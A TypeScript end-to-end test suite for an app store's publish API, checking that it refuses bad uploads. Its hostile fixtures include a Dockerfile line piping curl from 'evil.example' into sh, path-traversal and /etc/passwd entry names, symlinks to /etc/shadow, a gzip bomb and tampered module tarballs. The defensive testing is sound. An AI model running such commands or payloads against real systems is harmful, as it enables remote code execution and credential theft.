// The store's HTTP API on SQLite, end to end through a real server: publish rules and every
// refusal the issue names, yank, hand-over, curated review, the OpenAPI document.
import assert from 'node:assert/strict';
import type express from 'express';
import { readdirSync } from 'node:fs';
import { request } from 'node:http';
import path from 'node:path';
import { after, before, describe, test } from 'node:test';
import { bundleContentHash, bundleFiles, moduleIntegrity, unpackBundle } from '../../core/bundle';
import { moduleBundle } from '../../test/support/built-bundle';
import { hostileTarball } from '../../test/support/hostile-tarball';
import { handOver, publishBundle } from '../client/publish.client';
import { packBundle, rawTarball, signerFor, testBundle, uploadBundle } from '../testing/bundle.fixture';
import { newKeyPem, startTestAppStore, type TestAppStore } from '../testing/app-store.fixture';
import { appStoreApp } from '../server/app-store.app';

const alice = 'gho_alice_token';
const bob = 'gho_bob_token';
const mod = 'gho_mod_token';
const users = { [alice]: 'alice', [bob]: 'bob', [mod]: 'Moderator1' };

function blobCount(store: TestAppStore): number {
  const dir = path.join(store.dataDir, 'blobs');
  try {
    return readdirSync(dir).flatMap((d) => readdirSync(path.join(dir, d))).length;
  } catch {
    return 0;
  }
}

async function getJson(url: string, token?: string): Promise<{ status: number; body: Record<string, unknown> }> {
  const response = await fetch(url, token ? { headers: { Authorization: `Bearer ${token}` } } : {});
  const body: unknown = await response.json();
  return { status: response.status, body: typeof body === 'object' && body !== null ? { ...body } : {} };
}

async function postJson(url: string, token: string, body: unknown): Promise<{ status: number; body: Record<string, unknown> }> {
  const response = await fetch(url, { method: 'POST', headers: { Authorization: `Bearer ${token}`, 'Content-Type': 'application/json' }, body: JSON.stringify(body) });
  const json: unknown = await response.json();
  return { status: response.status, body: typeof json === 'object' && json !== null ? { ...json } : {} };
}

/**
 * Publishes several bundles so that they reach the store at the same moment: every request is
 * sent but for its last byte, then all are finished in one turn of the event loop (so the
 * server has all of them in flight at once, whatever the client's scheduling).
 */
async function uploadTogether(storeUrl: string, uploads: { token: string; tarball: Buffer; signer: { signature: string; publicKey: string } }[]): Promise<{ status: number; body: Record<string, unknown> }[]> {
  const started = await Promise.all(uploads.map(async ({ token, tarball, signer }) => {
    const req = request(`${storeUrl}/api/apps`, {
      method: 'POST', agent: false,
      headers: { Authorization: `Bearer ${token}`, 'Content-Type': 'application/gzip', 'Content-Length': tarball.length, 'X-Databox-Signature': signer.signature, 'X-Databox-Public-Key': signer.publicKey },
    });
    const answer = new Promise<{ status: number; body: Record<string, unknown> }>((resolve, reject) => {
      req.on('error', reject);
      req.on('response', (res) => {
        const chunks: Buffer[] = [];
        res.on('data', (chunk: Buffer) => chunks.push(chunk));
        res.on('end', () => resolve({ status: res.statusCode ?? 0, body: { ...JSON.parse(Buffer.concat(chunks).toString()) } }));
      });
    });
    await new Promise<void>((resolve, reject) => req.write(tarball.subarray(0, -1), (error) => (error ? reject(error) : resolve())));
    return { req, last: tarball.subarray(-1), answer };
  }));
  for (const { req, last } of started) req.end(last);
  return Promise.all(started.map((s) => s.answer));
}

/**
 * Every route an Express application serves, as "METHOD /path/{param}" (OpenAPI's path form),
 * read from its router stack and the routers mounted in it.
 */
function expressRoutes(app: express.Express): string[] {
  interface Layer { route?: { path: unknown; methods: Record<string, boolean> }; handle: { stack?: Layer[] }; rawPath?: unknown }
  const routes: string[] = [];
  const walk = (stack: readonly Layer[], prefix: string): void => {
    for (const layer of stack) {
      if (layer.route) {
        const route = `${prefix}${String(layer.route.path)}`.replace(/:([A-Za-z0-9_]+)/g, '{$1}');
        for (const [method, on] of Object.entries(layer.route.methods)) if (on) routes.push(`${method === '_all' ? 'ALL' : method.toUpperCase()} ${route}`);
      } else if (Array.isArray(layer.handle.stack)) {
        assert.equal(typeof layer.rawPath, 'string', 'a router mounted on a pattern: expressRoutes cannot name its routes');
        walk(layer.handle.stack, layer.rawPath === '/' ? prefix : `${prefix}${String(layer.rawPath)}`);
      }
    }
  };
  walk((app.router as unknown as { stack: Layer[] }).stack, '');
  return routes;
}

function code(body: Record<string, unknown>): unknown {
  const error = body.error;
  return typeof error === 'object' && error !== null && 'code' in error ? error.code : undefined;
}

describe('open store', () => {
  let store: TestAppStore;
  const aliceKey = newKeyPem();
  const bobKey = newKeyPem();
  before(async () => {
    store = await startTestAppStore({ backend: 'sqlite', users, config: { maxBundleBytes: 20_000, publishRateLimit: { count: 40, windowSeconds: 3600 } } });
  });
  after(() => store.close());

  test('alice publishes loadmon 1.0.0; the store records version, channel, changelog, publisher, size and hash', async () => {
    const tarball = packBundle(testBundle('loadmon', '1.0.0'));
    const result = await publishBundle({ storeUrl: store.url, token: alice, tarball, privateKeyPem: aliceKey, changelog: 'First – ünïcode' });
    assert.equal(result.version, '1.0.0');
    assert.equal(result.publisher, 'alice');
    assert.equal(result.channel, 'stable');
    assert.equal(result.changelog, 'First – ünïcode');
    assert.equal(result.size, tarball.length);
    assert.match(String(result.contentHash), /^[0-9a-f]{64}$/);
    assert.equal(result.review, 'open');
    assert.equal(blobCount(store), 1);
  });

  test('refusals: no token, bad token, wrong owner, wrong key, duplicate and lower versions', async () => {
    const next = testBundle('loadmon', '1.1.0');
    const noToken = await fetch(`${store.url}/api/apps`, { method: 'POST', body: new Uint8Array(packBundle(next)) });
    assert.equal(noToken.status, 401);
    assert.equal(noToken.headers.get('www-authenticate'), 'Bearer realm="databox-store"');
    assert.equal((await uploadBundle(store.url, 'gho_unknown', packBundle(next), signerFor(next, aliceKey))).status, 401);

    const owner = await uploadBundle(store.url, bob, packBundle(next), signerFor(next, bobKey));
    assert.equal(owner.status, 403);
    assert.equal(code(owner.body), 'app-owned-by-other');

    const wrongKey = await uploadBundle(store.url, alice, packBundle(next), signerFor(next, newKeyPem()));
    assert.equal(wrongKey.status, 403);
    assert.equal(code(wrongKey.body), 'signing-key-mismatch');

    const same = testBundle('loadmon', '1.0.0', { description: 'Same version, other bytes' });
    const duplicate = await uploadBundle(store.url, alice, packBundle(same), signerFor(same, aliceKey));
    assert.equal(duplicate.status, 409);
    assert.equal(code(duplicate.body), 'version-exists');

    await publishBundle({ storeUrl: store.url, token: alice, tarball: packBundle(testBundle('loadmon', '1.2.0')), privateKeyPem: aliceKey });
    const lower = testBundle('loadmon', '1.1.5');
    const lowerAnswer = await uploadBundle(store.url, alice, packBundle(lower), signerFor(lower, aliceKey));
    assert.equal(lowerAnswer.status, 409);
    assert.equal(code(lowerAnswer.body), 'version-not-higher');
    assert.equal(blobCount(store), 2, 'refused publishes leave no blob behind');
  });

  test('refusals: tampered bundle, oversized bundle, gzip bomb, malicious tar paths, malformed manifest', async () => {
    const signed = testBundle('tamper', '1.0.0');
    const tampered = { ...signed, flows: [...signed.flows, { id: 'fn1', type: 'function', z: 'tab1', func: 'steal()' }] };
    const tamperedAnswer = await uploadBundle(store.url, alice, packBundle(tampered), signerFor(signed, aliceKey));
    assert.equal(tamperedAnswer.status, 400);
    assert.equal(code(tamperedAnswer.body), 'signature-invalid');

    const big = testBundle('bigapp', '1.0.0', { description: 'x'.repeat(30_000).replace(/x/g, () => String.fromCharCode(97 + Math.floor(Math.random() * 26))) });
    const bigAnswer = await uploadBundle(store.url, alice, packBundle(big), signerFor(big, aliceKey));
    assert.equal(bigAnswer.status, 413);
    assert.equal(code(bigAnswer.body), 'bundle-too-large');
    const bomb = await rawTarball([{ name: 'databox-manifest.json', data: ' '.repeat(5_000_000) }]);
    const bombAnswer = await uploadBundle(store.url, alice, bomb, signerFor(signed, aliceKey));
    assert.equal(bombAnswer.status, 413);

    // An upload whose JSON nests 5,000 levels deep (10 KB of it; this store takes 20 KB in all): a clear 400, not a stack overflow's 500.
    const deep = `${'['.repeat(5_000)}${']'.repeat(5_000)}`;
    for (const [name, text] of [['flows.json', `[{"id":"a","type":"inject","props":${deep}}]`], ['databox-manifest.json', `{"name":${deep}}`]] as const) {
      const files = bundleFiles(signed).map((f) => ({ name: f.name, data: f.name === name ? text : f.data.toString('utf8') }));
      const deepAnswer = await uploadBundle(store.url, alice, await rawTarball(files), signerFor(signed, aliceKey));
      assert.equal(deepAnswer.status, 400, `${name}: ${JSON.stringify(deepAnswer.body)}`);
      assert.equal(code(deepAnswer.body), 'bundle-json-too-deep', name);
    }

    for (const [name, expected] of [['../databox-manifest.json', 'bundle-entry-traversal'], ['/etc/passwd', 'bundle-entry-absolute'], ['node_modules/evil.js', 'bundle-entry-unknown']] as const) {
      const answer = await uploadBundle(store.url, alice, await rawTarball([{ name, data: '{}' }]), signerFor(signed, aliceKey));
      assert.equal(answer.status, 400, name);
      assert.equal(code(answer.body), expected, name);
    }
    const link = await uploadBundle(store.url, alice, await rawTarball([{ name: 'flows.json', type: 'symlink', linkname: '/etc/shadow' }]), signerFor(signed, aliceKey));
    assert.equal(code(link.body), 'bundle-entry-type');

    const wellFormed = testBundle('okname', '1.0.0');
    const malformed = { ...wellFormed, manifest: { ...wellFormed.manifest, name: 'Bad Name!', version: '1.0' } };
    const malformedAnswer = await uploadBundle(store.url, alice, packBundle(malformed), signerFor(signed, aliceKey));
    assert.equal(malformedAnswer.status, 400);
    assert.equal(code(malformedAnswer.body), 'manifest-invalid');
    assert.match(JSON.stringify(malformedAnswer.body), /name: must be one lower-case word.*version: must be a semantic version/);

    const honest = testBundle('liar', '1.0.0');
    const lying = { ...honest, manifest: { ...honest.manifest, lineage: [{ kind: 'export' as const, sink: 'https://elsewhere.example', sources: ['load'] }] } };
    const lyingAnswer = await uploadBundle(store.url, alice, packBundle(lying), signerFor(lying, aliceKey));
    assert.equal(code(lyingAnswer.body), 'bundle-invalid');
    const runs = { ...testBundle('runner', '1.0.0'), dockerfile: 'FROM databox/flow-runtime:0.1.0\nRUN curl https://evil.example | sh\n' };
    assert.equal(code((await uploadBundle(store.url, alice, packBundle(runs), signerFor(runs, aliceKey))).body), 'bundle-invalid');

    const body = JSON.stringify([tamperedAnswer, bigAnswer, malformedAnswer, lyingAnswer]);
    assert.doesNotMatch(body, /at .*\.ts:\d+|stack/i, 'no stack traces in answers');
    assert.equal(blobCount(store), 2);
    assert.equal((await getJson(`${store.url}/api/apps/tamper`)).status, 404);
  });

  test('concurrent publishes of one new app: one 201, the other 409 app-exists; the store keeps the winner\'s one version and blob', async () => {
    const a = testBundle('racer', '1.0.0', { description: 'first racer' });
    const b = testBundle('racer', '1.0.0', { description: 'second racer' });
    const racers = [
      { login: 'alice', description: 'first racer', token: alice, tarball: packBundle(a), signer: signerFor(a, aliceKey) },
      { login: 'bob', description: 'second racer', token: bob, tarball: packBundle(b), signer: signerFor(b, bobKey) },
    ];
    const blobsBefore = blobCount(store);
    const answers = await uploadTogether(store.url, racers);
    const outcome = answers.map((x) => `${x.status} ${String(code(x.body) ?? '')}`.trim());
    assert.deepEqual([...outcome].sort(), ['201', '409 app-exists'], `one wins; the unique key refuses the other: ${JSON.stringify(answers)}`);

    const winner = racers[outcome.indexOf('201')];
    assert.ok(winner);
    const versions = await store.context.repo.listVersions('racer');
    assert.deepEqual(versions.map((v) => [v.version, v.publisher, v.manifest.description]), [['1.0.0', winner.login, winner.description]], 'exactly the winner\'s version is stored');
    assert.equal((await store.context.repo.getApp('racer'))?.owner, winner.login);
    const download = await fetch(`${store.url}/api/apps/racer/1.0.0/bundle`);
    assert.deepEqual(Buffer.from(await download.arrayBuffer()), winner.tarball, 'the stored bundle is the winner\'s bytes');
    assert.equal(blobCount(store), blobsBefore + 1, 'one new blob: the loser\'s was removed again');
  });

  test('yank hides a version from installs but keeps it downloadable; only the owner or a moderator may', async () => {
    assert.equal((await postJson(`${store.url}/api/apps/loadmon/1.2.0/yank`, bob, {})).status, 403);
    const yanked = await postJson(`${store.url}/api/apps/loadmon/1.2.0/yank`, alice, {});
    assert.equal(yanked.status, 200);
    assert.equal(yanked.body.yanked, true);
    const detail = await getJson(`${store.url}/api/apps/loadmon`);
    assert.equal(detail.body.listedVersion, '1.0.0');
    const download = await fetch(`${store.url}/api/apps/loadmon/1.2.0/bundle`);
    assert.equal(download.status, 200);
    await postJson(`${store.url}/api/apps/loadmon/1.2.0/yank`, alice, { yanked: false });
    assert.equal((await getJson(`${store.url}/api/apps/loadmon`)).body.listedVersion, '1.2.0');
  });

  test('key rotation only by a hand-over signed with the current key', async () => {
    const newKey = newKeyPem();
    await assert.rejects(handOver({ storeUrl: store.url, token: alice, app: 'loadmon', currentKeyPem: newKeyPem(), newKeyPem: newKey }), /not signed by loadmon's current key/);
    await assert.rejects(handOver({ storeUrl: store.url, token: bob, app: 'loadmon', currentKeyPem: aliceKey, newKeyPem: newKey }), /only alice may hand/);
    await handOver({ storeUrl: store.url, token: alice, app: 'loadmon', currentKeyPem: aliceKey, newKeyPem: newKey });
    await assert.rejects(publishBundle({ storeUrl: store.url, token: alice, tarball: packBundle(testBundle('loadmon', '1.3.0')), privateKeyPem: aliceKey }), /must be signed with the key/);
    const result = await publishBundle({ storeUrl: store.url, token: alice, tarball: packBundle(testBundle('loadmon', '1.3.0')), privateKeyPem: newKey });
    assert.equal(result.version, '1.3.0');
    const detail = await getJson(`${store.url}/api/apps/loadmon`);
    assert.equal(Array.isArray(detail.body.keyHandovers) && detail.body.keyHandovers.length, 1);
  });

  test('bad parameters are clear 400s; unknown paths 404 JSON', async () => {
    const bad = await getJson(`${store.url}/api/apps?type=robot`);
    assert.equal(bad.status, 400);
    assert.match(String(Object(bad.body.error).message), /type must be "app" or "driver"/);
    assert.equal((await getJson(`${store.url}/api/apps?limit=100000`)).status, 400);
    assert.equal((await getJson(`${store.url}/api/apps/..%2F..%2Fetc`)).status, 400);
    assert.equal((await getJson(`${store.url}/api/apps/loadmon/not-a-version/bundle`)).status, 400);
    assert.equal(code((await getJson(`${store.url}/api/nothing`)).body), 'not-found');
    const badJson = await fetch(`${store.url}/api/apps/loadmon/1.0.0/yank`, { method: 'POST', headers: { Authorization: `Bearer ${alice}`, 'Content-Type': 'application/json' }, body: '{nope' });
    assert.equal(badJson.status, 400);
  });

  test('the OpenAPI document lists exactly the /api routes Express serves, and each documented one answers', async () => {
    const doc = await getJson(`${store.url}/api/openapi.json`);
    assert.equal(doc.body.openapi, '3.0.3');
    const paths = doc.body.paths;
    assert.ok(typeof paths === 'object' && paths !== null);
    const documented = Object.entries(paths).flatMap(([p, ops]) => Object.keys(ops).map((m) => `${m.toUpperCase()} ${p}`)).sort();
    assert.deepEqual(documented, [
      'GET /api/apps', 'GET /api/apps/{name}', 'GET /api/apps/{name}/diff', 'GET /api/apps/{name}/{version}', 'GET /api/apps/{name}/{version}/bundle',
      'GET /api/health', 'GET /api/me', 'GET /api/openapi.json', 'GET /api/review', 'POST /api/apps', 'POST /api/apps/{name}/handover',
      'POST /api/apps/{name}/{version}/yank', 'POST /api/review/{name}/{version}',
    ]);
    // The store's Express application, as startAppStore builds it, walked layer by layer.
    const served = expressRoutes(appStoreApp(store.context)).filter((r) => /^\S+ \/api(\/|$)/.test(r)).sort();
    assert.deepEqual(served, documented, 'every /api route Express serves is documented, and every documented one is routed');
    for (const entry of documented) {
      const [method, template] = entry.split(' ');
      const url = `${store.url}${(template ?? '').replace('{name}', 'loadmon').replace('{version}', '1.0.0')}${template?.endsWith('/diff') ? '?from=1.0.0&to=1.3.0' : ''}`;
      const response = await fetch(url, { method, headers: { Authorization: `Bearer ${alice}`, 'Content-Type': 'application/json' }, body: method === 'POST' ? '{}' : null });
      assert.notEqual(response.status, 404, `${entry} is served`);
    }
  });

  test('a bundle that carries third-party modules publishes and downloads byte for byte, tarballs and all; hostile module tarballs are 400s', async () => {
    const key = newKeyPem();
    const bundle = await moduleBundle({ name: 'shouting', version: '1.0.0' });
    const tarball = packBundle(bundle);
    const published = await publishBundle({ storeUrl: store.url, token: bob, tarball, privateKeyPem: key });
    assert.equal(published.contentHash, bundleContentHash(bundle));
    const download = await fetch(`${store.url}/api/apps/shouting/1.0.0/bundle`);
    const served = Buffer.from(await download.arrayBuffer());
    assert.deepEqual(served, tarball, 'served unchanged');
    assert.deepEqual((await unpackBundle(served)).modules?.map((m) => m.file), ['modules/fixture-helper-0.2.1.tgz', 'modules/node-red-contrib-databox-fixture-1.4.2.tgz']);

    const next = await moduleBundle({ name: 'shouting', version: '1.1.0' });
    const entries = bundleFiles(next).map((f) => ({ header: { name: f.name }, content: f.data }));
    const helper = 'modules/fixture-helper-0.2.1.tgz';
    const linked = await hostileTarball([{ header: { name: 'package/package.json' }, content: '{"name":"fixture-helper","version":"0.2.1"}' }, { header: { name: 'package/index.js', type: 'symlink', linkname: '/etc/shadow' } }]);
    const relisted = { ...next, packageJson: { ...next.packageJson, databox: { modules: (next.packageJson.databox?.modules ?? []).map((m) => (m.file === helper ? { ...m, integrity: moduleIntegrity(linked) } : m)) } } };
    const hostile: [string, Buffer, string][] = [
      ['a tarball not listed', await hostileTarball([...entries, { header: { name: 'modules/extra-1.0.0.tgz' }, content: linked }]), 'bundle-module-unlisted'],
      ['a listed one missing', await hostileTarball(entries.filter((e) => e.header.name !== helper)), 'bundle-module-missing'],
      ['an integrity mismatch', await hostileTarball(entries.map((e) => (e.header.name === helper ? { ...e, content: linked } : e))), 'bundle-module-integrity'],
      ['a link inside a module', packBundle({ ...relisted, modules: (next.modules ?? []).map((m) => (m.file === helper ? { ...m, data: linked } : m)) }), 'bundle-entry-type'],
      ['a modules/../x name', await hostileTarball([...entries, { header: { name: 'modules/../x.tgz' }, content: 'x' }]), 'bundle-entry-traversal'],
    ];
    for (const [what, upload, expected] of hostile) {
      const answer = await uploadBundle(store.url, bob, upload, signerFor(next, key));
      assert.equal(answer.status, 400, what);
      assert.equal(code(answer.body), expected, what);
    }
    assert.equal((await getJson(`${store.url}/api/apps/shouting`)).body.name, 'shouting');
    assert.equal((await getJson(`${store.url}/api/apps/shouting/1.1.0`)).status, 404, 'nothing of the refused uploads was kept');
  });
});

describe('curated store', () => {
  let store: TestAppStore;
  const key = newKeyPem();
  before(async () => { store = await startTestAppStore({ backend: 'sqlite', users, config: { mode: 'curated', moderators: ['moderator1'] } }); });
  after(() => store.close());

  test('new apps and versions whose permissions grow wait for a moderator; the listing says approved', async () => {
    const first = await publishBundle({ storeUrl: store.url, token: alice, tarball: packBundle(testBundle('watcher', '1.0.0')), privateKeyPem: key });
    assert.equal(first.review, 'pending');
    assert.equal((await getJson(`${store.url}/api/apps?q=watcher`)).body.total, 0);
    assert.equal((await getJson(`${store.url}/api/apps/watcher`)).status, 404);
    assert.equal((await fetch(`${store.url}/api/apps/watcher/1.0.0/bundle`)).status, 404);
    assert.equal((await fetch(`${store.url}/api/apps/watcher/1.0.0/bundle`, { headers: { Authorization: `Bearer ${mod}` } })).status, 200);
    assert.equal((await getJson(`${store.url}/api/review`, alice)).status, 403);
    const queue = await getJson(`${store.url}/api/review`, mod);
    assert.deepEqual(Object.values(queue.body).map((v) => typeof v === 'object' && v !== null && 'app' in v ? v.app : undefined), ['watcher']);
    assert.equal((await postJson(`${store.url}/api/review/watcher/1.0.0`, alice, { decision: 'approved' })).status, 403);
    assert.equal((await postJson(`${store.url}/api/review/watcher/1.0.0`, mod, { decision: 'approved' })).status, 200);
    const listed = await getJson(`${store.url}/api/apps?q=watcher`);
    assert.match(JSON.stringify(listed.body.items), /"approved":true/);

    const same = await publishBundle({ storeUrl: store.url, token: alice, tarball: packBundle(testBundle('watcher', '1.1.0', { description: 'Only words changed' })), privateKeyPem: key });
    assert.equal(same.review, 'approved', 'no new permissions: approved at once');
    const grows = testBundle('watcher', '1.2.0', {
      sources: [{ clientid: 'load', type: 'loadavg1' }],
      exports: [{ url: 'https://example.org/ingest', description: 'load', from: ['load'] }, { url: 'https://tracker.example.com/x', description: 'more', from: ['load'] }],
    });
    const grown = await publishBundle({ storeUrl: store.url, token: alice, tarball: packBundle(grows), privateKeyPem: key });
    assert.equal(grown.review, 'pending');
    assert.equal((await getJson(`${store.url}/api/apps/watcher`)).body.listedVersion, '1.1.0');
    await postJson(`${store.url}/api/review/watcher/1.2.0`, mod, { decision: 'rejected' });
    assert.equal((await getJson(`${store.url}/api/apps/watcher`)).body.listedVersion, '1.1.0');
    assert.equal((await getJson(`${store.url}/api/me`, mod)).body.moderator, true);
  });

  test('the publish rate limit stops a flood with 429', async () => {
    const limited = await startTestAppStore({ backend: 'sqlite', users, config: { publishRateLimit: { count: 2, windowSeconds: 3600 } } });
    try {
      const statuses: number[] = [];
      for (const version of ['1.0.0', '1.0.1', '1.0.2']) {
        const b = testBundle('flood', version);
        statuses.push((await uploadBundle(limited.url, alice, packBundle(b), signerFor(b, key))).status);
      }
      assert.deepEqual(statuses, [201, 201, 429]);
    } finally {
      await limited.close();
    }
  });
});
